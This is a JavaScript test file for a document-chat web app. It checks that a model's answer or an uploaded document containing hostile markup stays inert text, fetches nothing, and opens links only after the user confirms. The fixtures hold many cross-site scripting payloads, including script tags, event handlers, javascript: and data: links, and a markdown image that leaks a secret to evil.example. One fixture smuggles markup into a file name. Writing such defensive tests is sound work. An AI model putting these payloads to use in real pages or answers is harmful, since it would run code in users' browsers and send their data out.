// What a model or a document says can neither run nor fetch anything in the page.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { ask, finished, openPage, parts, settled } from './support/browser.mjs';
import { SpeakingModel } from './support/models.mjs';
import { setting } from './support/setting.mjs';

const hostile = `The bridge ![secret](http://evil.example/?q=SECRET) was opened in 1872 [1].

<script>window.hacked = 1</script>

<img src="http://evil.example/i.png" onerror="window.hacked = 2"> <svg onload="window.hacked = 3"><style>@import url(http://evil.example/a.css)</style></svg>

[a harmless link](javascript:window.hacked=4) [another](data:text/html,<script>window.hacked=5</script>) [a third](  JaVaScRiPt&colon;window.hacked=6)

[a bank](http://evil.example/login) ![by reference][r] <http://evil.example/auto> http://evil.example/bare

<iframe src="http://evil.example/f"></iframe><link rel="prefetch" href="http://evil.example/p"><meta http-equiv="refresh" content="0;url=http://evil.example/m"><base href="http://evil.example/">

</textarea></div><math><mi xlink:href="javascript:window.hacked=7">x</mi></math><form action="http://evil.example/x"><button>Send</button></form>

[r]: http://evil.example/reference.png
[1]: http://evil.example/one "as if a citation"`;

const model = new SpeakingModel(hostile);
const here = setting({ model, documents: { 'bridge.txt': 'The Ludwig bridge was opened in 1872 and has seven arches.' } });

/** Every address the page asks for, including those that a rule blocks before they leave. */
function addresses(page) {
  const list = [];
  page.on('request', (request) => list.push(request.url()));
  return list;
}

async function assertInert(page) {
  assert.equal(await page.evaluate(() => window.hacked), undefined, 'a script of the answer ran');
  const elements = await page.locator('[role=log]').evaluate((log) => log.querySelectorAll('script, img, iframe, style, link, meta, base, form, math, object, embed, video, svg:not(.icon, .logo), [onerror], [onload], [srcset]').length);
  assert.equal(elements, 0, 'markup of the answer became elements');
  const targets = await page.locator('[role=log] a').evaluateAll((links) => links.map((link) => link.protocol));
  assert.ok(targets.every((protocol) => protocol === 'http:' || protocol === 'https:'), `links go to ${targets}`);
}

for (const size of [1, 7, 100_000]) {
  test(`A hostile answer in pieces of ${size} characters stays text and fetches nothing`, here.onPage(async (page) => {
    Object.assign(model, { text: hostile, size, pace: size === 1 ? 0 : 4 });
    const requests = addresses(page);
    const answer = await ask(page, 'When was the Ludwig bridge opened?');
    // Looked at while it streams, too: a half of a tag must be as harmless as the whole.
    await answer.getByText(/was opened in 1872/).first().waitFor();
    await assertInert(page);
    await finished(page, answer);
    await assertInert(page);
    await answer.getByText(/window\.hacked = 1/).first().waitFor();
    await page.reload();
    await parts(page).answers.first().getByText(/window\.hacked = 1/).first().waitFor();
    await assertInert(page);
    const origin = new URL(page.url()).origin;
    assert.deepEqual(requests.filter((address) => !address.startsWith(`${origin}/`)), []);
    assert.ok(requests.some((address) => address.endsWith('/api/chat')), 'no request was seen at all');
  }));
}

test('A link of an answer shows its whole target and asks before it is followed', here.onPage(async (page) => {
  model.size = 7;
  const requests = addresses(page);
  const answer = await ask(page, 'When was the Ludwig bridge opened?');
  await finished(page, answer);
  const link = answer.getByRole('link', { name: /a bank/ });
  assert.match(await link.innerText(), /http:\/\/evil\.example\/login/);
  assert.equal(await link.getAttribute('rel'), 'noopener noreferrer');
  await link.click();
  const dialog = page.getByRole('dialog', { name: 'Open a link' });
  await dialog.getByText('http://evil.example/login').waitFor();
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'detached' });
  assert.equal(page.context().pages().length, 1);
  assert.deepEqual(requests.filter((address) => address.includes('evil.example')), []);
}));

test('A hostile document is only text in the list, in the answer and in the source', here.onPage(async (page) => {
  const text = 'The ferry ![x](http://evil.example/d.png) costs two kreuzer <img src=http://evil.example/e onerror="window.hacked=8"> a person.';
  const requests = addresses(page);
  await parts(page).files.setInputFiles({ name: 'ferry <b onclick=x>.md', mimeType: 'text/markdown', buffer: Buffer.from(text) });
  await settled(page, 'ferry', 'Ready');
  model.text = 'The ferry costs two kreuzer [1].';
  const answer = await ask(page, 'What does the ferry cost?');
  await finished(page, answer);
  await answer.getByRole('button', { name: /^Source 1: ferry/ }).first().click();
  await parts(page).source.getByText(/two kreuzer/).first().waitFor();
  assert.equal(await page.locator('img, b').count(), 0);
  assert.equal(await page.evaluate(() => window.hacked), undefined);
  assert.deepEqual(requests.filter((address) => address.includes('evil.example')), []);
}));

test('An endless line and deep nesting do not hold up the page', async () => {
  Object.assign(model, { text: `Seven arches [1]. ${'>'.repeat(3000)} ${'*a **b '.repeat(3000)} ${'['.repeat(3000)}`, size: 400, pace: 1 });
  const page = await openPage(here.browser, here.docmind.url);
  const answer = await ask(page, 'When was the Ludwig bridge opened?');
  await page.evaluate(() => {
    window.longest = 0;
    new PerformanceObserver((list) => list.getEntries().forEach(({ duration }) => (window.longest = Math.max(window.longest, duration)))).observe({ entryTypes: ['longtask'] });
  });
  await finished(page, answer);
  const longest = await page.evaluate(() => window.longest);
  assert.ok(longest < 1000, `the page was held up for ${longest} ms`);
  await page.context().close();
});
